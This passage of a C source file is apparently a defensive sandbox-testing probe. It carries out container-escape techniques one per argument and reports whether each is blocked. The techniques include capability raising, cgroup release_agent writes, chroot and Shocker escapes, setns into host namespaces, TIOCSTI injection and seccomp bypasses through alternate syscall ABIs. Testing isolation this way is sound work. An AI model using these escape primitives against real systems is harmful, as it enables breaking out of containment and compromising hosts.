/* The escape battery's probe: one container-escape attack per argument.
 *
 *   probe [LABEL=]ATTACK[:ARG] ...
 *
 * Each attack runs in a forked child (so one attack cannot disturb the next) and
 * prints exactly one line:  LABEL STATUS [key=value ...]
 * (`probe --here ATTACK` runs a single attack in the probe's own process.)
 * STATUS is OK when the attacker got what it wanted, BLOCKED when it did not
 * (with errno=ENAME and, for multi-step attacks, step=NAME), KILLED when the child
 * died by a signal.  Built static: `gcc -static -O1 -o probe probe.c`.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif
#ifndef MFD_NOEXEC_SEAL
#define MFD_NOEXEC_SEAL 0x0008U
#endif
#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U
#endif
#ifndef KEY_SPEC_PROCESS_KEYRING
#define KEY_SPEC_PROCESS_KEYRING -2
#endif

static const char *label;

static void report(const char *status, const char *fmt, ...)
{
    char detail[1024] = "";
    if (fmt) {
        va_list ap;
        va_start(ap, fmt);
        vsnprintf(detail, sizeof detail, fmt, ap);
        va_end(ap);
    }
    printf("%s %s%s%s\n", label, status, detail[0] ? " " : "", detail);
    fflush(stdout);
}

static const char *ename(int number)
{
    const char *name = strerrorname_np(number);
    static char buf[32];
    if (name)
        return name;
    snprintf(buf, sizeof buf, "%d", number);
    return buf;
}

/* OK when result >= 0, else BLOCKED with errno. */
static void verdict(long result, const char *step)
{
    if (result >= 0)
        report("OK", NULL);
    else if (step)
        report("BLOCKED", "step=%s errno=%s", step, ename(errno));
    else
        report("BLOCKED", "errno=%s", ename(errno));
}

static void blocked_at(const char *step)
{
    report("BLOCKED", "step=%s errno=%s", step, ename(errno));
}

/* -- capabilities ------------------------------------------------------------------ */

static int get_caps(struct __user_cap_data_struct data[2])
{
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    return syscall(SYS_capget, &header, data);
}

static int set_caps(struct __user_cap_data_struct data[2])
{
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    return syscall(SYS_capset, &header, data);
}

static const char *status_field(const char *key, char *out, size_t size)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[512];
    size_t len = strlen(key);
    snprintf(out, size, "?");
    if (!f)
        return out;
    while (fgets(line, sizeof line, f)) {
        if (strncmp(line, key, len) == 0 && line[len] == ':') {
            char *value = line + len + 1;
            while (*value == ' ' || *value == '\t')
                value++;
            value[strcspn(value, "\n")] = 0;
            snprintf(out, size, "%s", value);
        }
    }
    fclose(f);
    return out;
}

/* Report who we are: euid and the capability sets (used after exec of a setuid or
 * file-capability binary). */
static void attack_caps(const char *arg)
{
    char prm[32], eff[32], inh[32], bnd[32], amb[32];
    (void) arg;
    report("OK", "euid=%d prm=%s eff=%s inh=%s bnd=%s amb=%s", (int) geteuid(),
           status_field("CapPrm", prm, sizeof prm), status_field("CapEff", eff, sizeof eff),
           status_field("CapInh", inh, sizeof inh), status_field("CapBnd", bnd, sizeof bnd),
           status_field("CapAmb", amb, sizeof amb));
}

/* Raise CAP_SYS_ADMIN into the effective and permitted sets with capset(2). */
static void attack_capset(const char *arg)
{
    struct __user_cap_data_struct data[2];
    (void) arg;
    if (get_caps(data) < 0)
        return blocked_at("capget");
    data[0].effective = 0;        /* first shed what we hold, as a payload would */
    set_caps(data);
    data[0].effective |= 1u << CAP_SYS_ADMIN;
    data[0].permitted |= 1u << CAP_SYS_ADMIN;
    verdict(set_caps(data), NULL);
}

/* Put CAP_SYS_ADMIN into the inheritable set (ignoring failure) and raise it ambient. */
static void attack_ambient(const char *arg)
{
    struct __user_cap_data_struct data[2];
    (void) arg;
    if (get_caps(data) == 0) {
        data[0].inheritable |= 1u << CAP_SYS_ADMIN;
        set_caps(data);
    }
    verdict(prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0), NULL);
}

/* Shed every capability we hold, then exec ARG (a setuid or file-capability binary)
 * with the `caps` attack under our label: whatever it reports was gained by exec. */
static void attack_exec(const char *arg)
{
    struct __user_cap_data_struct data[2] = {{0, 0, 0}, {0, 0, 0}};
    char argv1[256];
    prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_CLEAR_ALL, 0, 0, 0);
    set_caps(data);
    snprintf(argv1, sizeof argv1, "%s=caps", label);
    execl(arg, arg, "--here", argv1, (char *) NULL);
    blocked_at("exec");
}

/* -- filesystem ---------------------------------------------------------------------- */

static void attack_create(const char *path)
{
    int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0)
        return verdict(-1, NULL);
    close(fd);
    report("OK", NULL);
}

/* Plant a setuid copy of the probe at ARG (for someone outside to run later). */
static void attack_plant_suid(const char *path)
{
    char buf[65536];
    ssize_t n;
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int out = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
    if (in < 0 || out < 0)
        return blocked_at("create");
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, (size_t) n) != n)
            return blocked_at("write");
    close(in);
    close(out);
    verdict(chmod(path, 04755), "chmod");
}

/* Create a file in ARG (a directory) and remove it again. */
static void attack_write_dir(const char *dir)
{
    char path[512];
    int fd;
    snprintf(path, sizeof path, "%s/.probe-%d", dir, (int) getpid());
    fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0)
        return verdict(-1, NULL);
    close(fd);
    unlink(path);
    report("OK", NULL);
}

static void attack_read(const char *path)
{
    char buf[65536];
    long total = 0;
    ssize_t n;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return blocked_at("open");
    while ((n = read(fd, buf, sizeof buf)) > 0 && total < (1 << 20))
        total += n;
    if (n < 0)
        return blocked_at("read");
    close(fd);
    report("OK", "bytes=%ld", total);
}

/* Does the file ARG=PATH:NEEDLE contain NEEDLE (NUL bytes read as newlines)? */
static void attack_grep(const char *arg)
{
    char path[512], buf[65536];
    const char *needle = strrchr(arg, ':');
    ssize_t n, i;
    int fd;
    if (!needle)
        return report("BLOCKED", "errno=usage");
    snprintf(path, sizeof path, "%.*s", (int) (needle - arg), arg);
    needle++;
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return blocked_at("open");
    n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0)
        return blocked_at("read");
    for (i = 0; i < n; i++)
        if (buf[i] == 0)
            buf[i] = '\n';
    buf[n] = 0;
    report("OK", "found=%s", strstr(buf, needle) ? "yes" : "no");
}

/* Open for reading only, read nothing. */
static void attack_open_r(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return verdict(-1, NULL);
    close(fd);
    report("OK", NULL);
}

/* Open for writing only: proves write access without changing anything. */
static void attack_open_w(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return verdict(-1, NULL);
    close(fd);
    report("OK", NULL);
}

/* ARG is PATH=DATA. */
static void attack_write(const char *arg)
{
    char path[512];
    const char *data = strrchr(arg, '=');
    int fd;
    if (!data)
        return report("BLOCKED", "errno=usage");
    snprintf(path, sizeof path, "%.*s", (int) (data - arg), arg);
    data++;
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return blocked_at("open");
    if (write(fd, data, strlen(data)) < 0)
        return blocked_at("write");
    close(fd);
    report("OK", NULL);
}

/* chmod ARG to the mode it already has: succeeds only with the right to change the
 * inode's metadata (owner, or CAP_FOWNER), and then changes nothing but its ctime. */
static void attack_chmod(const char *path)
{
    struct stat st;
    if (stat(path, &st) < 0)
        return blocked_at("stat");
    verdict(chmod(path, st.st_mode & 07777), NULL);
}

/* Report DIR's entries as KEY=a,b,c (without . and .., nor the listing's own fd
 * when SKIP_OWN_FD: /proc/self/fd shows it). */
static void report_entries(const char *dir, const char *key, int skip_own_fd)
{
    char names[4096] = "";
    DIR *d = opendir(dir);
    struct dirent *entry;
    if (!d)
        return blocked_at("opendir");
    while ((entry = readdir(d))) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
            continue;
        if (skip_own_fd && atoi(entry->d_name) == dirfd(d))
            continue;
        if (names[0])
            strncat(names, ",", sizeof names - strlen(names) - 1);
        strncat(names, entry->d_name, sizeof names - strlen(names) - 1);
    }
    closedir(d);
    report("OK", "%s=%s", key, names);
}

static void attack_ls(const char *dir)
{
    report_entries(dir, "entries", 0);
}

/* mknod a block device, ARG=PATH:MAJOR:MINOR.  OK once the node exists; `open=`
 * tells whether it could then be opened (nodev mounts and the device cgroup refuse). */
static void attack_mknod(const char *arg)
{
    char path[512];
    unsigned major_, minor_;
    int fd;
    if (sscanf(arg, "%511[^:]:%u:%u", path, &major_, &minor_) != 3)
        return report("BLOCKED", "errno=usage");
    if (mknod(path, S_IFBLK | 0600, makedev(major_, minor_)) < 0)
        return blocked_at("mknod");
    fd = open(path, O_RDONLY | O_CLOEXEC);
    report("OK", "open=%s", fd >= 0 ? "OK" : ename(errno));
    if (fd >= 0)
        close(fd);
    unlink(path);
}

/* CVE-2024-21626 style: make ARG (e.g. /proc/self/fd/N) the working directory and
 * create a file relative to it. */
static void attack_cwd_create(const char *dir)
{
    int fd;
    if (chdir(dir) < 0)
        return blocked_at("chdir");
    fd = open("probe-escaped", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0)
        return blocked_at("create");
    close(fd);
    report("OK", NULL);
}

/* -- mounts ---------------------------------------------------------------------------- */

static void attack_mount_tmpfs(const char *arg)
{
    (void) arg;
    mkdir("/tmp/probe-mnt", 0755);
    verdict(mount("tmpfs", "/tmp/probe-mnt", "tmpfs", 0, "size=64k"), NULL);
}

static void attack_remount_rw(const char *arg)
{
    (void) arg;
    verdict(mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL), NULL);
}

/* Unmount a mask (ARG), then read what it hid. */
static void attack_umount(const char *path)
{
    if (umount2(path, MNT_DETACH) < 0)
        return blocked_at("umount");
    attack_read(path);
}

/* CVE-2022-0492: mount a cgroup v1 hierarchy and write its release_agent (the value
 * it already has, so even a successful write changes nothing).  ARG lists candidate
 * controllers joined by '+'; the first whose release_agent is visible (the cgroup
 * namespace must be rooted at the hierarchy's root) is attacked. */
static int release_agent_write(const char *dir)
{
    char path[512], current[4096];
    ssize_t n;
    int fd, result;
    snprintf(path, sizeof path, "%s/release_agent", dir);
    fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return -1;
    n = read(fd, current, sizeof current);
    if (n < 0)
        n = 0;
    result = pwrite(fd, n ? current : "\n", n ? (size_t) n : 1, 0) < 0 ? -2 : 0;
    close(fd);
    return result;
}

static void attack_release_agent(const char *arg)
{
    char list[512], *name, *save = NULL;
    const char *step = "mount";
    int step_errno = EINVAL;
    snprintf(list, sizeof list, "%s", arg);
    for (name = strtok_r(list, "+", &save); name; name = strtok_r(NULL, "+", &save)) {
        char dir[300];
        int result;
        snprintf(dir, sizeof dir, "/tmp/probe-cg-%s", name);
        mkdir(dir, 0755);
        if (mount("cgroup", dir, "cgroup", 0, name) < 0) {
            if (strcmp(step, "mount") == 0)
                step_errno = errno;
            continue;
        }
        result = release_agent_write(dir);
        if (result == -1 && errno == ENOENT) {   /* not the hierarchy's root: try the next */
            step = "open";
            step_errno = errno;
            umount2(dir, MNT_DETACH);
            continue;
        }
        if (result == 0)
            report("OK", "hierarchy=%s", name);
        else
            report("BLOCKED", "hierarchy=%s step=%s errno=%s", name, result == -1 ? "open" : "write",
                   ename(errno));
        umount2(dir, MNT_DETACH);
        return;
    }
    report("BLOCKED", "step=%s errno=%s", step, ename(step_errno));
}

/* -- namespaces ---------------------------------------------------------------------- */

static void attack_unshare(const char *kind)
{
    int flag = strcmp(kind, "user") == 0 ? CLONE_NEWUSER : strcmp(kind, "mnt") == 0 ? CLONE_NEWNS
             : strcmp(kind, "net") == 0 ? CLONE_NEWNET : -1;
    if (flag < 0)
        return report("BLOCKED", "errno=usage");
    verdict(unshare(flag), NULL);
}

/* unshare(CLONE_NEWUSER) through another syscall ABI of x86-64, which a filter
 * written for the native ABI alone would miss: ARG is i386 (int 0x80) or x32. */
static void attack_abi_unshare(const char *abi)
{
#if defined(__x86_64__)
    long result;
    if (strcmp(abi, "i386") == 0) {
        long number = 310;               /* unshare in the i386 table */
        __asm__ volatile ("int $0x80" : "=a"(result) : "0"(number), "b"((long) CLONE_NEWUSER)
                          : "memory", "r8", "r9", "r10", "r11");
    } else {
        result = syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER);
        if (result < 0)
            result = -errno;
    }
    if (result < 0) {
        errno = (int) -result;
        return verdict(-1, NULL);
    }
    report("OK", NULL);
#else
    (void) abi;
    report("BLOCKED", "errno=not-x86_64");
#endif
}

/* clone(2) with CLONE_NEWUSER (the argument filter's job, separate from unshare). */
static void attack_clone_user(const char *arg)
{
    long pid;
    (void) arg;
    pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    verdict(pid, NULL);
}

static void attack_clone3_user(const char *arg)
{
    struct clone_args args;
    long pid;
    (void) arg;
    memset(&args, 0, sizeof args);
    args.flags = CLONE_NEWUSER;
    args.exit_signal = SIGCHLD;
    pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    verdict(pid, NULL);
}

/* Look for the host's mount namespace (ARG: its inode) among /proc/<pid>/ns/mnt and
 * enter it; on success report whether "/" is now the host's (ARG2: DEV:INO of it). */
static void attack_setns(const char *arg)
{
    unsigned long host_ns, root_dev, root_ino;
    DIR *proc;
    struct dirent *entry;
    int seen = 0, denied = 0, last_errno = 0;
    if (sscanf(arg, "%lu:%lu:%lu", &host_ns, &root_dev, &root_ino) != 3)
        return report("BLOCKED", "errno=usage");
    proc = opendir("/proc");
    while (proc && (entry = readdir(proc))) {
        char path[300];
        struct stat st;
        int fd;
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/ns/mnt", entry->d_name);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            denied++;
            last_errno = errno;
            continue;
        }
        seen++;
        if (fstat(fd, &st) == 0 && st.st_ino == host_ns) {
            struct stat root;
            if (setns(fd, CLONE_NEWNS) < 0)
                return blocked_at("setns");
            stat("/", &root);
            return report("OK", "host_root=%s", root.st_dev == root_dev && root.st_ino == root_ino
                                                   ? "yes" : "no");
        }
        close(fd);
    }
    /* Not even the container's own mount namespace may be re-entered. */
    errno = 0;
    {
        int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
        int result = own >= 0 ? setns(own, CLONE_NEWNS) : -1;
        report("BLOCKED", "host_ns=unreachable visible=%d denied=%d denied_errno=%s own_setns=%s",
               seen, denied, denied ? ename(last_errno) : "none", result == 0 ? "OK" : ename(errno));
    }
}

static void attack_sethostname(const char *arg)
{
    (void) arg;
    verdict(sethostname("probe-was-here", 14), NULL);
}

/* -- processes ------------------------------------------------------------------------- */

/* PTRACE_SEIZE the process ARG (no stop; our exit detaches). */
static void attack_ptrace(const char *arg)
{
    verdict(ptrace(PTRACE_SEIZE, atoi(arg), 0, 0), NULL);
}

static void attack_procs(const char *arg)
{
    char names[4096] = "";
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    (void) arg;
    while (proc && (entry = readdir(proc))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        if (names[0])
            strncat(names, ",", sizeof names - strlen(names) - 1);
        strncat(names, entry->d_name, sizeof names - strlen(names) - 1);
    }
    report("OK", "pids=%s", names);
}

/* Any process whose executable is the file DEV:INO (the host's runtime binary)?  If
 * found, try to open it for writing. `unreadable` counts the /proc/<pid>/exe links
 * the kernel would not even let us follow. */
static void attack_exe_scan(const char *arg)
{
    unsigned long dev, ino;
    DIR *proc;
    struct dirent *entry;
    int checked = 0, unreadable = 0, last_errno = 0;
    if (sscanf(arg, "%lu:%lu", &dev, &ino) != 2)
        return report("BLOCKED", "errno=usage");
    proc = opendir("/proc");
    while (proc && (entry = readdir(proc))) {
        char path[300];
        struct stat st;
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        if (stat(path, &st) < 0) {
            unreadable++;
            last_errno = errno;
            continue;
        }
        checked++;
        if (st.st_dev == dev && st.st_ino == ino) {
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0)
                return report("BLOCKED", "found=%s step=open errno=%s", entry->d_name, ename(errno));
            close(fd);
            return report("OK", "found=%s", entry->d_name);
        }
    }
    report("BLOCKED", "found=none checked=%d unreadable=%d unreadable_errno=%s", checked, unreadable,
           unreadable ? ename(last_errno) : "none");
}

/* -- fds ------------------------------------------------------------------------------- */

static void attack_fds(const char *arg)
{
    (void) arg;
    report_entries("/proc/self/fd", "fds", 1);
}

/* Create a file relative to a guessed, leaked directory fd ARG. */
static void attack_fd_openat(const char *arg)
{
    int fd = openat(atoi(arg), "probe-escaped", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0)
        return verdict(-1, NULL);
    close(fd);
    report("OK", NULL);
}

/* connect(2) to the unix socket ARG: a path, or @NAME for the abstract namespace
 * (which belongs to the network namespace; paths do not). */
static void attack_unix_connect(const char *arg)
{
    struct sockaddr_un addr;
    socklen_t length;
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return blocked_at("socket");
    memset(&addr, 0, sizeof addr);
    addr.sun_family = AF_UNIX;
    strncpy(addr.sun_path, arg, sizeof addr.sun_path - 1);
    length = offsetof(struct sockaddr_un, sun_path) + strlen(arg);
    if (arg[0] == '@')
        addr.sun_path[0] = 0;
    else
        length += 1;
    verdict(connect(fd, (struct sockaddr *) &addr, length), NULL);
    close(fd);
}

/* A fresh procfs (without the masks) at /tmp/probe-proc; then read ARG in it. */
static void attack_mount_proc(const char *arg)
{
    char path[512];
    mkdir("/tmp/probe-proc", 0755);
    if (mount("proc", "/tmp/probe-proc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0)
        return blocked_at("mount");
    snprintf(path, sizeof path, "/tmp/probe-proc/%s", arg);
    attack_read(path);
}

/* -- kernel interfaces ------------------------------------------------------------------ */

static void attack_add_key(const char *arg)
{
    (void) arg;
    verdict(syscall(SYS_add_key, "user", "probe", "x", 1, KEY_SPEC_PROCESS_KEYRING), NULL);
}

static void attack_keyctl(const char *arg)
{
    (void) arg;
    verdict(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0), NULL);
}

static void attack_bpf(const char *arg)
{
    union bpf_attr attr;
    (void) arg;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    verdict(syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr), NULL);
}

static void attack_io_uring(const char *arg)
{
    struct io_uring_params params;
    (void) arg;
    memset(&params, 0, sizeof params);
    verdict(syscall(SYS_io_uring_setup, 1, &params), NULL);
}

static void attack_userfaultfd(const char *arg)
{
    (void) arg;
    verdict(syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY), NULL);
}

static void attack_perf(const char *arg)
{
    struct perf_event_attr attr;
    (void) arg;
    memset(&attr, 0, sizeof attr);
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.exclude_kernel = 1;
    attr.exclude_hv = 1;
    verdict(syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0), NULL);
}

/* Read the kernel log (syslog(2) READ_ALL): KASLR offsets and other processes' traces. */
static void attack_syslog(const char *arg)
{
    char buf[4096];
    (void) arg;
    verdict(syscall(SYS_syslog, 3, buf, (int) sizeof buf), NULL);
}

/* A 64-byte buffer that is no module: a permitted caller gets ENOEXEC (or a signature
 * error), a refused one EPERM; nothing can ever be loaded. */
static void attack_init_module(const char *arg)
{
    char image[64];
    (void) arg;
    memset(image, 0, sizeof image);
    verdict(syscall(SYS_init_module, image, sizeof image, ""), NULL);
}

static void attack_finit_module(const char *arg)
{
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);   /* an ELF executable, not a module */
    (void) arg;
    verdict(syscall(SYS_finit_module, fd, "", 0), NULL);
}

static void attack_raw_socket(const char *family)
{
    int fd = strcmp(family, "packet") == 0 ? socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))
           : socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    verdict(fd, NULL);
}

/* Push "x" into the input of the terminal on fd 0.  Without a controlling terminal
 * (hardrun's setsid) the probe first tries to acquire fd 0 as one (TIOCSCTTY).  ARG
 * picks the call: empty for ioctl(2), `hi` with the request's upper 32 bits set (the
 * kernel ignores them; a filter comparing all 64 would not), `i386` through int 0x80. */
static char injected = 'x';   /* static: addressable with 32 bits for the i386 call */

static void attack_tiocsti(const char *arg)
{
    int tty = open("/dev/tty", O_RDONLY | O_CLOEXEC);
    const char *ctty = tty >= 0 ? "yes" : "no";
    long result;
    if (tty >= 0) {
        close(tty);
    } else {
        setsid();
        if (ioctl(0, TIOCSCTTY, 0) == 0)
            ctty = "acquired";
    }
    if (strcmp(arg, "hi") == 0) {
        result = syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, &injected);
#if defined(__x86_64__)
    } else if (strcmp(arg, "i386") == 0) {
        long number = 54;             /* ioctl in the i386 table */
        __asm__ volatile ("int $0x80" : "=a"(result)
                          : "0"(number), "b"(0L), "c"((long) TIOCSTI), "d"((long) (uintptr_t) &injected)
                          : "memory", "r8", "r9", "r10", "r11");
        if (result < 0) {
            errno = (int) -result;
            result = -1;
        }
#endif
    } else {
        result = ioctl(0, TIOCSTI, &injected);
    }
    if (result < 0)
        return report("BLOCKED", "errno=%s ctty=%s", ename(errno), ctty);
    report("OK", "ctty=%s", ctty);
}

/* One raw system call for the argument filters of the seccomp profile.  ARG: the
 * syscall number and up to five arguments, comma-separated, each a number (any base
 * strtoull reads) or `devnull`, an fd of /dev/null (the kernel then answers an ioctl
 * with ENOTTY, so a call that reaches it is told from the filter's EPERM). */
static void attack_syscall(const char *arg)
{
    unsigned long args[6] = {0};
    char copy[256], *field, *rest;
    int count = 0;
    long result;
    snprintf(copy, sizeof copy, "%s", arg);
    for (rest = copy; (field = strsep(&rest, ",")) != NULL && count < 6; count++)
        args[count] = strcmp(field, "devnull") == 0 ? (unsigned long) open("/dev/null", O_RDWR | O_CLOEXEC)
                                                   : strtoull(field, NULL, 0);
    if (count == 0)
        return report("BLOCKED", "errno=usage");
    result = syscall((long) args[0], args[1], args[2], args[3], args[4], args[5]);
    verdict(result, NULL);
}

/* -- chroot and file handles -------------------------------------------------------------- */

/* The classic chroot escape: chroot into a subdirectory while keeping a directory fd
 * outside it, fchdir to that fd, walk up, chroot("."). ARG: DEV:INO of the host's "/". */
static void attack_chroot_escape(const char *arg)
{
    unsigned long dev, ino;
    struct stat root;
    int outside, i;
    if (sscanf(arg, "%lu:%lu", &dev, &ino) != 2)
        return report("BLOCKED", "errno=usage");
    mkdir("/tmp/probe-jail", 0755);
    outside = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/probe-jail") < 0)
        return blocked_at("chroot");
    if (fchdir(outside) < 0)
        return blocked_at("fchdir");
    for (i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0)
        return blocked_at("chroot-out");
    stat("/", &root);
    if (root.st_dev == dev && root.st_ino == ino)
        return report("OK", "root=host");
    report("BLOCKED", "root=container");
}

/* "Shocker" (2014): open_by_handle_at opens any inode of a file system by its handle,
 * also one outside the container's root, given a mount fd on the same file system.
 * ARG: TYPE:HEX:DEV:INO, a handle taken on the host and the DEV:INO it must open. */
static void attack_shocker(const char *arg)
{
    unsigned long dev, ino;
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } buf;
    char hex[260];
    int type, mount_fd, fd;
    unsigned int i;
    struct stat st;
    if (sscanf(arg, "%d:%259[0-9a-f]:%lu:%lu", &type, hex, &dev, &ino) != 4 || strlen(hex) / 2 > sizeof buf.bytes)
        return report("BLOCKED", "errno=usage");
    buf.handle.handle_type = type;
    buf.handle.handle_bytes = strlen(hex) / 2;
    for (i = 0; i < buf.handle.handle_bytes; i++)
        sscanf(hex + 2 * i, "%2hhx", &buf.handle.f_handle[i]);
    mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    fd = syscall(SYS_open_by_handle_at, mount_fd, &buf.handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return blocked_at("open_by_handle_at");
    fstat(fd, &st);
    report(st.st_dev == dev && st.st_ino == ino ? "OK" : "BLOCKED", "opened_ino=%lu", (unsigned long) st.st_ino);
}

/* -- executing what the container wrote ------------------------------------------------------ */

/* The payload of write_exec: an exec'd copy of the probe reports that it ran. */
static void attack_ran(const char *arg)
{
    report("OK", "ran=%s", arg);
}

/* memfd_secret has no write(2): size it and read into a shared mapping. */
static int copy_self_mapped(int out, int in)
{
    struct stat st;
    char *map;
    ssize_t n = 0, got;
    if (fstat(in, &st) < 0 || ftruncate(out, st.st_size) < 0)
        return -1;
    map = mmap(NULL, st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, out, 0);
    if (map == MAP_FAILED)
        return -1;
    while (n < st.st_size && (got = read(in, map + n, st.st_size - n)) > 0)
        n += got;
    munmap(map, st.st_size);
    close(in);
    return n == st.st_size ? 0 : -1;
}

static int copy_self(int out, int mapped)
{
    char buf[65536];
    ssize_t n;
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (in < 0)
        return -1;
    if (mapped)
        return copy_self_mapped(out, in);
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n)
            return -1;
    close(in);
    return n < 0 ? -1 : 0;
}

/* Write an executable (a copy of the probe) at run time and execute it. ARG: HOW[:DIR]
 *   memfd         memfd_create(0), execveat(AT_EMPTY_PATH)
 *   memfd_procfd  memfd_create(0), execve("/proc/self/fd/N")
 *   memfd_exec    memfd_create(MFD_EXEC), execveat(AT_EMPTY_PATH)
 *   memfd_sealed  memfd_create(MFD_NOEXEC_SEAL), execveat(AT_EMPTY_PATH)
 *   memfd_secret  memfd_secret(0), execveat(AT_EMPTY_PATH)
 *   tmpfile       open(DIR, O_TMPFILE), execveat(AT_EMPTY_PATH)
 *   file          DIR/probe-payload, execve(path)
 * The written fd is chmod 0755 and reopened read-only (exec refuses a file open for
 * writing; memfd_secret cannot be reopened). OK comes from the payload itself; `chmod=` tells whether chmod worked. */
static void attack_write_exec(const char *arg)
{
    char how[32] = "", path[256] = "", fd_path[64], spec[128];
    const char *dir = strchr(arg, ':');
    char *argv[] = {"probe", "--here", spec, NULL};
    int fd, readonly, chmod_errno = 0;
    snprintf(how, sizeof how, "%.*s", dir ? (int) (dir - arg) : (int) strlen(arg), arg);
    snprintf(spec, sizeof spec, "%s=ran:%s", label, how);
    if (strcmp(how, "memfd") == 0 || strcmp(how, "memfd_procfd") == 0)
        fd = syscall(SYS_memfd_create, "payload", 0);
    else if (strcmp(how, "memfd_exec") == 0)
        fd = syscall(SYS_memfd_create, "payload", MFD_EXEC);
    else if (strcmp(how, "memfd_sealed") == 0)
        fd = syscall(SYS_memfd_create, "payload", MFD_NOEXEC_SEAL);
    else if (strcmp(how, "memfd_secret") == 0)
        fd = syscall(SYS_memfd_secret, 0);
    else if (strcmp(how, "tmpfile") == 0 && dir)
        fd = open(dir + 1, O_TMPFILE | O_RDWR, 0755);
    else if (strcmp(how, "file") == 0 && dir) {
        snprintf(path, sizeof path, "%s/probe-payload", dir + 1);
        unlink(path);
        fd = open(path, O_CREAT | O_EXCL | O_RDWR, 0755);
    } else
        return report("BLOCKED", "errno=usage");
    if (fd < 0)
        return blocked_at("create");
    if (copy_self(fd, strcmp(how, "memfd_secret") == 0) < 0)
        return blocked_at("write");
    if (fchmod(fd, 0755) < 0)
        chmod_errno = errno;
    snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", fd);
    if (strcmp(how, "memfd_secret") == 0)
        readonly = fd;   /* cannot be reopened (ENXIO), nor written after its mapping */
    else if ((readonly = open(fd_path, O_RDONLY | O_CLOEXEC)) < 0)
        return blocked_at("reopen");
    else
        close(fd);
    if (path[0])
        execve(path, argv, environ);
